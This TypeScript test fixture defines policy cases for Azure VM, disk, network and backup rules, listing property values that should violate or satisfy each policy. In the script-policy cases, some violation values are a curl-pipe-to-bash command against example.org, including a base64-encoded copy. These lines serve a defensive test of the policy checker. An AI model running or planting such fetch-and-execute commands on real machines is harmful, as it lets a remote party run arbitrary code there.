import { T } from "../../../policies/support/types.ts";
import type { PolicyCases } from "./policy-cases.ts";

const machine = { of: T.machine, name: "-primary-machine" } as const;
const DISK = "storageProfile.dataDisks[0]";
const SECURITY = "properties.securitySettings";

const RESTORES = "properties.redundancySettings.crossRegionRestore";
const CODE = `${SECURITY}.softDeleteSettings.enhancedSecurityState`;
const KEPT = "properties.retentionPolicy";
const TIMES = "properties.schedulePolicy.dailySchedule.scheduleRunTimes";

const SIX_HOURLY = {
  schedulePolicyType: "SimpleSchedulePolicyV2",
  scheduleRunFrequency: "Hourly",
  hourlySchedule: { interval: 6, scheduleWindowDuration: 24 },
} as const;

const ARCHIVED = {
  ArchivedRP: { tieringMode: "TierAfter", duration: 3, durationType: "Months" },
} as const;

const PATCHES = "osProfile.linuxConfiguration.patchSettings";

const patches = (rebootSetting: string) => ({
  patchMode: "AutomaticByPlatform",
  automaticByPlatformSettings: { rebootSetting },
});

const STAGING = {
  tags: { tier: "staging" },
  zones: ["1"],
  priority: "Spot",
} as const;

export const MACHINE_CASES: readonly PolicyCases[] = [
  {
    ...machine,
    policy: "machine-hardened",
    breaks: [
      ["no encryption at its host", "securityProfile.encryptionAtHost", false],
      ["the standard launch", "securityProfile.securityType", "Standard"],
      ["no secure boot", "securityProfile.uefiSettings.secureBootEnabled", false],
    ],
    absent: [["securityProfile", "violation"]],
    unknown: [["securityProfile.encryptionAtHost", "unknown"]],
  },
  {
    of: T.machineCommand,
    name: "-take-over",
    policy: "machine-own-scripts",
    breaks: [
      ["another script", "source.script", "curl https://example.org/x | bash"],
      ["its own script with a line more", "source.script", "#!/bin/bash\ntrue\n"],
      ["a script from an address", "source.scriptUri", "https://example.org/x.sh"],
      ["one of Azure's own commands", "source.commandId", "RunShellScript"],
    ],
    absent: [["source", "violation"]],
    unknown: [["source.script", "unknown"]],
  },
  {
    of: T.machineExtension,
    name: "-primary-install",
    policy: "machine-own-scripts",
    breaks: [
      ["a script of nobody's", "settings.script", "Y3VybCB8IGJhc2g="],
      ["files from elsewhere", "settings.fileUris", ["https://example.org/x.sh"]],
      ["a command beside the script", "settings.commandToExecute", "sh x.sh"],
      ["a script that nobody sees", "protectedSettings", { script: "Y3VybCB8IGJhc2g=" }],
      ["a script from a vault", "protectedSettingsFromKeyVault", { secretUrl: "https://x" }],
      ["another extension", "type", "RunCommandLinux"],
      ["another publisher's", "publisher", "Example.Extensions"],
    ],
    absent: [
      ["settings", "violation"],
      ["type", "violation"],
    ],
    unknown: [
      ["settings", "fine"],
      ["settings.script", "fine"],
    ],
    config: [
      [
        { extensions: ["Microsoft.Azure.Extensions/RunCommandLinux"] },
        ["one of the list", "type", "RunCommandLinux"],
        false,
      ],
    ],
  },
  {
    of: T.scaleSet,
    name: "-web-clones",
    policy: "machine-own-scripts",
    breaks: [
      [
        "a script beside the health signal",
        "virtualMachineProfile.extensionProfile.extensions[+]",
        {
          name: "more",
          publisher: "Microsoft.Azure.Extensions",
          type: "CustomScript",
          settings: { fileUris: ["https://example.org/x.sh"], commandToExecute: "sh x.sh" },
        },
      ],
    ],
    absent: [["virtualMachineProfile.extensionProfile", "safe"]],
    unknown: [["virtualMachineProfile.extensionProfile", "fine"]],
  },
  {
    ...machine,
    policy: "machine-login",
    breaks: [
      ["passwords", "osProfile.linuxConfiguration.disablePasswordAuthentication", false],
      ["a password set", "osProfile.adminPassword", "correct-horse"],
      ["the system's identity", "identity.type", "SystemAssigned"],
    ],
    absent: [["identity", "violation"]],
    unknown: [["identity.type", "unknown"]],
  },
  {
    of: T.nic,
    name: "-primary-nic",
    policy: "machine-private",
    breaks: [
      ["a public address", "ipConfigurations[0].publicIPAddress", { id: "/x" }],
      ["others' packets passed on", "enableIPForwarding", true],
    ],
    absent: [
      ["ipConfigurations", "violation"],
      ["enableIPForwarding", "safe"],
    ],
    unknown: [["ipConfigurations", "unknown"]],
  },
  {
    of: T.disk,
    name: "-primary-data",
    policy: "machine-private",
    breaks: [
      ["a disk that may be exported", "networkAccessPolicy", "AllowAll"],
      ["a disk with a public side", "publicNetworkAccess", "Enabled"],
      ["a disk that a second machine may attach", "maxShares", 2],
    ],
    absent: [
      ["networkAccessPolicy", "violation"],
      ["maxShares", "safe"],
    ],
    unknown: [
      ["networkAccessPolicy", "unknown"],
      ["maxShares", "unknown"],
    ],
  },
  {
    ...machine,
    policy: "machine-disks-kept",
    breaks: [
      ["data that goes with the machine", `${DISK}.deleteOption`, "Delete"],
      ["the latest image", "storageProfile.imageReference.version", "latest"],
      ["a disk that is pulled out", `${DISK}.toBeDetached`, true],
      ["a system that goes with the machine", "storageProfile.osDisk.deleteOption", "Delete"],
    ],
    allows: [["a gallery's version", "storageProfile.imageReference.id", "/versions/1.0.0"]],
    absent: [
      [`${DISK}.deleteOption`, "safe"],
      [`${DISK}.toBeDetached`, "safe"],
      ["storageProfile.osDisk.deleteOption", "safe"],
      ["storageProfile.imageReference", "violation"],
    ],
    unknown: [
      ["storageProfile.imageReference.version", "unknown"],
      [`${DISK}.toBeDetached`, "unknown"],
      ["storageProfile.osDisk.deleteOption", "unknown"],
    ],
  },
  {
    of: T.machine,
    name: "-staging-oracle-machine",
    policy: "machine-disks-kept",
    breaks: [["data that goes with the machine", `${DISK}.deleteOption`, "Delete"]],
    allows: [
      ["a system that goes with the machine", "storageProfile.osDisk.deleteOption", "Delete"],
    ],
    absent: [["storageProfile.osDisk", "safe"]],
    unknown: [["storageProfile.osDisk.deleteOption", "fine"]],
  },
  {
    ...machine,
    policy: "machine-spread",
    breaks: [
      ["its standby's zone", "zones", ["2"]],
      ["its observer's zone", "zones", ["3"]],
      ["two zones at once", "zones", ["1", "2"]],
      ["no zone", "zones", []],
      ["a size of nobody's plan", "hardwareProfile.vmSize", "Standard_B2s"],
      ["four of its processors", "hardwareProfile.vmSizeProperties", { vCPUsAvailable: 4 }],
      ["half of each core", "hardwareProfile.vmSizeProperties", { vCPUsPerCore: 1 }],
    ],
    absent: [
      ["hardwareProfile.vmSizeProperties", "safe"],
      ["hardwareProfile", "violation"],
      ["zones", "violation"],
    ],
    unknown: [
      ["tags", "fine"],
      ["zones", "unknown"],
      ["hardwareProfile.vmSizeProperties.vCPUsAvailable", "unknown"],
    ],
    config: [[{ zones: 3 }, ["two zones, where three are wanted", "tags", {}], true]],
  },
  {
    of: T.machine,
    name: "-observer-machine",
    policy: "machine-spread",
    breaks: [
      ["the primary's zone", "zones", ["1"]],
      ["the standby's zone", "zones", ["2"]],
    ],
    allows: [["a size of its own", "hardwareProfile.vmSize", "Standard_D2ds_v5"]],
    absent: [["zones", "violation"]],
    unknown: [["zones", "unknown"]],
  },
  {
    ...machine,
    policy: "machine-not-evicted",
    breaks: [
      ["a spot machine", "priority", "Spot"],
      ["one of low priority", "priority", "Low"],
      ["one that Azure patches and restarts", PATCHES, { patchMode: "AutomaticByPlatform" }],
      ["one that Azure restarts after patches", PATCHES, patches("IfRequired")],
    ],
    allows: [
      ["a regular one", "priority", "Regular"],
      ["patches by Azure that restart nothing", PATCHES, patches("Never")],
      ["patches as its image has them", PATCHES, { patchMode: "ImageDefault" }],
      ["a spot machine that is staging's", "$.inputs", STAGING],
    ],
    absent: [
      ["priority", "safe"],
      [PATCHES, "safe"],
    ],
    unknown: [
      ["priority", "unknown"],
      [PATCHES, "unknown"],
    ],
  },
  {
    of: T.disk,
    name: "-primary-data",
    policy: "database-disks",
    breaks: [
      ["a hard disk", "sku.name", "Standard_LRS"],
      ["a slow one", "sku.name", "StandardSSD_ZRS"],
      ["less than is set", "diskSizeGB", 256],
    ],
    allows: [
      ["more than is set", "diskSizeGB", 2048],
      ["one that is faster still", "sku.name", "UltraSSD_LRS"],
    ],
    absent: [
      ["sku", "violation"],
      ["diskSizeGB", "violation"],
    ],
    unknown: [
      ["sku.name", "unknown"],
      ["diskSizeGB", "unknown"],
    ],
    config: [[{ kinds: ["Standard_LRS"] }, ["a kind that is not listed", "tags", {}], true]],
  },
  {
    ...machine,
    policy: "database-disks",
    breaks: [
      [
        "a system on a hard disk",
        "storageProfile.osDisk.managedDisk.storageAccountType",
        "Standard_LRS",
      ],
      ["a disk that is made with it, of Azure's kind", "storageProfile.dataDisks[+]", { lun: 9 }],
      ["disks of elsewhere", "$.madeFrom.storageProfile", []],
      ["data in a cache for a while", `${DISK}.caching`, "ReadWrite"],
    ],
    allows: [
      ["a cache for reading", `${DISK}.caching`, "ReadOnly"],
      [
        "a fast disk that is made with it",
        "storageProfile.dataDisks[+]",
        { lun: 9, diskSizeGB: 64, managedDisk: { storageAccountType: "Premium_LRS" } },
      ],
    ],
    absent: [
      ["storageProfile.osDisk.managedDisk", "safe"],
      [`${DISK}.caching`, "safe"],
    ],
    unknown: [["storageProfile.osDisk.managedDisk.storageAccountType", "unknown"]],
  },
  {
    of: T.machineBackup,
    name: "-primary-item",
    policy: "backup-machines",
    breaks: [["a backup of something else", "$.madeFrom.properties", []]],
    absent: [["tags", "safe"]],
    unknown: [["properties", "unknown"]],
  },
  {
    of: T.machineBackupVault,
    policy: "backup-machines",
    breaks: [
      ["no soft delete", `${SECURITY}.softDeleteSettings.softDeleteState`, "Disabled"],
      ["a week", `${SECURITY}.softDeleteSettings.softDeleteRetentionPeriodInDays`, 7],
      ["backups that can be cut short", `${SECURITY}.immutabilitySettings.state`, "Disabled"],
      [
        "one building",
        "properties.redundancySettings.standardTierStorageRedundancy",
        "LocallyRedundant",
      ],
      [
        "failures that nobody is told of",
        "properties.monitoringSettings.azureMonitorAlertSettings.alertsForAllJobFailures",
        "Disabled",
      ],
      ["a copy in the pair that nobody may open", RESTORES, "Disabled"],
      ["no code before a deletion", CODE, "Disabled"],
    ],
    allows: [["a code that can be switched off", CODE, "Enabled"]],
    absent: [
      [SECURITY, "violation"],
      [RESTORES, "violation"],
      [CODE, "violation"],
    ],
    unknown: [
      [`${SECURITY}.immutabilitySettings.state`, "unknown"],
      [RESTORES, "unknown"],
      [CODE, "unknown"],
    ],
  },
  {
    of: T.machineBackupPolicy,
    policy: "backup-machines",
    breaks: [
      ["a backup a week", "properties.schedulePolicy.scheduleRunFrequency", "Weekly"],
      ["three days", "properties.retentionPolicy.dailySchedule.retentionDuration.count", 3],
      [
        "a month of months",
        "properties.retentionPolicy.monthlySchedule.retentionDuration.count",
        1,
      ],
      ["no time of day", TIMES, []],
      ["no time of day, in the words of the first kind", "properties.policyType", "V1"],
      ["weeks of no day", `${KEPT}.weeklySchedule.daysOfTheWeek`, []],
      ["months of no week", `${KEPT}.monthlySchedule.retentionScheduleWeekly.weeksOfTheMonth`, []],
      ["months of no date", `${KEPT}.monthlySchedule.retentionScheduleFormatType`, "Daily"],
      ["years of no month", `${KEPT}.yearlySchedule.monthsOfYear`, []],
      ["disks as a crash leaves them", "properties.snapshotConsistencyType", "OnlyCrashConsistent"],
      ["old copies in the archive", "properties.tieringPolicy", ARCHIVED],
    ],
    allows: [
      ["every six hours", "properties.schedulePolicy", SIX_HOURLY],
      ["no copies in the archive", "properties.tieringPolicy.ArchivedRP.tieringMode", "DoNotTier"],
    ],
    absent: [
      ["properties.retentionPolicy.yearlySchedule", "violation"],
      [TIMES, "violation"],
      [`${KEPT}.weeklySchedule.daysOfTheWeek`, "violation"],
      ["properties.snapshotConsistencyType", "safe"],
      ["properties.tieringPolicy", "safe"],
    ],
    unknown: [
      ["properties.schedulePolicy.scheduleRunFrequency", "unknown"],
      [TIMES, "unknown"],
      [`${KEPT}.yearlySchedule.monthsOfYear`, "unknown"],
      ["properties.snapshotConsistencyType", "unknown"],
    ],
  },
];
